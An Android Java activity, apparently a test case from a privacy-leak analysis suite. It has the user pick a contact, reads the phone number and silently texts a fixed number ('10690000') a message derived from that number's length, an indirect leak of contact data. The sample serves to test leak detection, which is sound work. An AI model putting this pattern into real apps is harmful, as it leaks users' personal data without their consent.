package cn.privlens.suite.picked_contact_constant;

import android.app.Activity;
import android.content.Intent;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import android.telephony.SmsManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        startActivityForResult(new Intent(Intent.ACTION_PICK, ContactsContract.CommonDataKinds.Phone.CONTENT_URI), 2);
    }
    @Override
    protected void onActivityResult(int request, int result, Intent data) {
        super.onActivityResult(request, result, data);
        if (request != 2 || data == null) {
            return;
        }
        Cursor row = getContentResolver().query(data.getData(), new String[] {ContactsContract.CommonDataKinds.Phone.NUMBER}, null, null, null);
        if (row.moveToFirst()) {
            String number = row.getString(0);
            SmsManager.getDefault().sendTextMessage("10690000", null, number.length() > 3 ? "long" : "short", null, null);
        }
        row.close();
    }
}
